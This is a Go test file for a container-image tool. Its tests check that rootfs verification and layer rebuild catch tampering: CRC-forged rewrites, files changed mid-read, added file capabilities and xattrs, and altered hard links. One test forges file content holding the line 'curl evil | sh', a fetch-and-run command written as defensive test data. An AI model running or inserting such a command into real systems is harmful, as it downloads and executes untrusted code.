package apply

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/ocifetch/ocifetch/errdefs"
	"github.com/ocifetch/ocifetch/internal/testutil"
)

// What a container that owns its rootfs can do to it, and what verify and
// rebuild must still tell: the "Why", one test per line.

// chtimesLike gives p the times of info.
func keepTimes(t *testing.T, p string, do func()) {
	t.Helper()
	var st unix.Stat_t
	if err := unix.Lstat(p, &st); err != nil {
		t.Fatal(err)
	}
	do()
	ts := []unix.Timespec{st.Atim, st.Mtim}
	if err := unix.UtimesNanoAt(unix.AT_FDCWD, p, ts, unix.AT_SYMLINK_NOFOLLOW); err != nil {
		t.Fatal(err)
	}
}

// A rewritten bin/app with the same size, CRC-64, mtime, mode and owner
// is content drift, and its layer no longer rebuilds. Before, verify
// compared the CRC and said the tree was clean.
func TestVerifyCatchesCRCForgedRewrite(t *testing.T) {
	t.Parallel()
	app := strings.Repeat("\x7fELF original program text ", 40)
	l := tarOf(t, D("bin", 0755), F("bin/app", app, 0755))
	a := mustApplyRecorded(t, [][]byte{l})
	p := filepath.Join(a.target, "bin/app")
	forged := testutil.ForgeCRC(t, []byte(app), "#!/bin/sh\ncurl evil | sh\n")
	keepTimes(t, p, func() {
		if err := rewrite(p, string(forged)); err != nil {
			t.Fatal(err)
		}
	})
	got, err := Verify(context.Background(), a.state, a.target)
	if err != nil {
		t.Fatal(err)
	}
	want := []Drift{{Path: "bin/app", Kind: DriftChanged, Changes: []string{"content"}}}
	if fmtDrifts(got) != fmtDrifts(want) {
		t.Errorf("drift %s, want %s", fmtDrifts(got), fmtDrifts(want))
	}
	out, err := a.rebuild(t, 0)
	var pe *PayloadError
	if !errors.As(err, &pe) || pe.Path != "bin/app" || pe.Reason != ReasonChanged || !errdefs.Is(err, errdefs.ErrDigestMismatch) {
		t.Errorf("rebuild: %v, want bin/app changed", err)
	}
	if bytes.Contains(out, forged[:20]) {
		t.Error("the forged bytes reached the consumer")
	}
}

// prefixOf fails unless got is a prefix of want.
func prefixOf(t *testing.T, got, want []byte) {
	t.Helper()
	if len(got) > len(want) || !bytes.Equal(got, want[:len(got)]) {
		t.Errorf("the consumer received %d bytes that are not a prefix of the layer (%d bytes)", len(got), len(want))
	}
}

// A consumer of rebuild (tar -x reading a pipe) never sees a changed
// payload: before, every byte but the last 1024 reached it before the
// layer's digest failed, and tar extracted the tampered file.
func TestRebuildPipeNeverSeesTamperedBytes(t *testing.T) {
	t.Parallel()
	for _, size := range []int{100, 300 << 10, memCopyMax + 1<<20} {
		body := bytes.Repeat([]byte("original "), size/9+1)[:size]
		l := tarOf(t, F("etc/first", "first", 0644), F("bin/app", string(body), 0755), F("etc/last", strings.Repeat("z", 5000), 0644))
		a := mustApplyRecorded(t, [][]byte{l})
		p := filepath.Join(a.target, "bin/app")
		tampered := bytes.Replace(body, []byte("original "), []byte("TAMPERED!"), 3)
		keepTimes(t, p, func() { os.WriteFile(p, tampered, 0755) })
		out, err := a.rebuild(t, 0)
		if !errdefs.Is(err, errdefs.ErrDigestMismatch) {
			t.Fatalf("size %d: %v, want digest_mismatch", size, err)
		}
		prefixOf(t, out, l)
		if bytes.Contains(out, []byte("TAMPERED!")) {
			t.Errorf("size %d: the tampered bytes reached the consumer", size)
		}
		if len(out) >= len(l)-holdBack {
			t.Errorf("size %d: %d of %d bytes written", size, len(out), len(l))
		}
	}
}

// triggerWriter calls fire once the bytes it received pass at, then
// passes everything on.
type triggerWriter struct {
	w    io.Writer
	n    int
	at   int
	once sync.Once
	fire func()
}

func (tw *triggerWriter) Write(p []byte) (int, error) {
	tw.n += len(p)
	if tw.n > tw.at {
		tw.once.Do(tw.fire)
	}
	return tw.w.Write(p)
}

// The tree changes while rebuild reads it (a running container): the
// file is rewritten as soon as the first of its bytes reaches the
// consumer. What is hashed is what is written, so the consumer gets the
// original layer whole, or an error and a prefix of it; before, the
// rewritten tail followed the original head.
func TestRebuildFileRewrittenWhileRead(t *testing.T) {
	t.Parallel()
	for _, size := range []int{2 << 20, memCopyMax + 3<<20} {
		body := bytes.Repeat([]byte("0123456789abcdef"), size/16)
		l := tarOf(t, F("big", string(body), 0644), F("after", "after", 0644))
		a := mustApplyRecorded(t, [][]byte{l})
		p := filepath.Join(a.target, "big")
		var out bytes.Buffer
		tw := &triggerWriter{w: &out, at: 512, fire: func() {
			f, err := os.OpenFile(p, os.O_WRONLY, 0)
			if err != nil {
				t.Error(err)
				return
			}
			f.WriteAt(bytes.Repeat([]byte("X"), size/2), int64(size/2))
			f.Close()
		}}
		err := Rebuild(context.Background(), a.state, a.target, sha(l), tw)
		if err != nil {
			prefixOf(t, out.Bytes(), l)
		} else if !bytes.Equal(out.Bytes(), l) {
			t.Errorf("size %d: rebuild succeeded with other bytes than the layer's", size)
		}
		if bytes.Contains(out.Bytes(), []byte("XXXXXXXX")) {
			t.Errorf("size %d: bytes written while rebuild read reached the consumer", size)
		}
		// The tree did change: now it fails, naming the file.
		if _, err := a.rebuild(t, 0); !errdefs.Is(err, errdefs.ErrDigestMismatch) || !strings.Contains(err.Error(), `"big"`) {
			t.Errorf("size %d: rebuild of the changed tree: %v", size, err)
		}
	}
}

// An extended attribute added to an image binary (a file capability) is
// drift; security.selinux, which a host's policy sets, is not, unless
// asked for.
func TestVerifyXattrs(t *testing.T) {
	t.Parallel()
	requireRoot(t)
	l := tarOf(t, D("bin", 0755), F("bin/ping", "ping", 0755), F("bin/cap", "c", 0755).xattr("user.kept", "v"), D("d", 0755).xattr("user.dir", "1"))
	a := mustApplyRecorded(t, [][]byte{l})
	a.noDrift(t)
	// cap_net_raw+ep, as setcap writes it (VFS_CAP_REVISION_2).
	capv := []byte{0x01, 0x00, 0x00, 0x02, 0x00, 0x20, 0x00, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0}
	if err := unix.Lsetxattr(filepath.Join(a.target, "bin/ping"), "security.capability", capv, 0); err != nil {
		testutil.Missing(t, "security.capability: %v", err)
	}
	unix.Lsetxattr(filepath.Join(a.target, "bin/cap"), "user.kept", []byte("w"), 0)
	unix.Lremovexattr(filepath.Join(a.target, "d"), "user.dir")
	selinux := unix.Lsetxattr(filepath.Join(a.target, "bin"), "security.selinux", []byte("system_u:object_r:bin_t:s0"), 0) == nil
	got, err := Verify(context.Background(), a.state, a.target)
	if err != nil {
		t.Fatal(err)
	}
	want := []Drift{
		{Path: "bin/cap", Kind: DriftChanged, Changes: []string{"xattrs"}},
		{Path: "bin/ping", Kind: DriftChanged, Changes: []string{"xattrs"}},
		{Path: "d", Kind: DriftChanged, Changes: []string{"xattrs"}},
	}
	if fmtDrifts(got) != fmtDrifts(want) {
		t.Errorf("drift %s, want %s", fmtDrifts(got), fmtDrifts(want))
	}
	if selinux {
		got, _ = Verify(context.Background(), a.state, a.target, WithIgnoredXattrs())
		if len(got) != 4 || got[0].Path != "bin" {
			t.Errorf("with nothing ignored: %s", fmtDrifts(got))
		}
	}
	got, _ = Verify(context.Background(), a.state, a.target, WithIgnoredXattrs("security.capability", "user.kept", "user.dir", "security.selinux"))
	if len(got) != 0 {
		t.Errorf("with every change ignored: %s", fmtDrifts(got))
	}
}

// Hard-link groups: two files with the same content, one turned into a
// hard link of the other, or a link broken off its group, are drift.
func TestVerifyHardLinkGroups(t *testing.T) {
	t.Parallel()
	l := tarOf(t, F("a", "same", 0644), F("b", "same", 0644), F("c", "c", 0644), H("d", "c"))
	a := mustApplyRecorded(t, [][]byte{l})
	a.noDrift(t)
	keepTimes(t, filepath.Join(a.target, "b"), func() {})
	os.Remove(filepath.Join(a.target, "b"))
	os.Link(filepath.Join(a.target, "a"), filepath.Join(a.target, "b"))
	body, _ := os.ReadFile(filepath.Join(a.target, "d"))
	var st unix.Stat_t
	unix.Lstat(filepath.Join(a.target, "d"), &st)
	os.Remove(filepath.Join(a.target, "d"))
	os.WriteFile(filepath.Join(a.target, "d"), body, 0644)
	unix.UtimesNano(filepath.Join(a.target, "d"), []unix.Timespec{st.Atim, st.Mtim})
	got, err := Verify(context.Background(), a.state, a.target)
	if err != nil {
		t.Fatal(err)
	}
	// b now shares a's inode (and so its mtime); d left c's group.
	want := []Drift{
		{Path: "b", Kind: DriftChanged, Changes: []string{"links"}},
		{Path: "d", Kind: DriftChanged, Changes: []string{"links"}},
	}
	for i := range got {
		got[i].Changes = slicesWithout(got[i].Changes, "mtime")
	}
	if fmtDrifts(got) != fmtDrifts(want) {
		t.Errorf("drift %s, want %s", fmtDrifts(got), fmtDrifts(want))
	}
}

func slicesWithout(s []string, x string) []string {
	var out []string
	for _, v := range s {
		if v != x {
			out = append(out, v)
		}
	}
	return out
}

// Directory mtimes: with WithDirMtimes a directory whose mtime changed is
// drift; without, it is not.
func TestVerifyDirMtimes(t *testing.T) {
	t.Parallel()
	l := tarOf(t, D("d", 0755), F("d/f", "f", 0644))
	a := mustApplyRecorded(t, [][]byte{l})
	os.Chtimes(filepath.Join(a.target, "d"), time.Unix(5, 0), time.Unix(5, 0))
	if d, _ := Verify(context.Background(), a.state, a.target); len(d) != 0 {
		t.Errorf("without WithDirMtimes: %s", fmtDrifts(d))
	}
	d, _ := Verify(context.Background(), a.state, a.target, WithDirMtimes())
	if fmtDrifts(d) != fmtDrifts([]Drift{{Path: "d", Kind: DriftChanged, Changes: []string{"mtime"}}}) {
		t.Errorf("with WithDirMtimes: %s", fmtDrifts(d))
	}
}
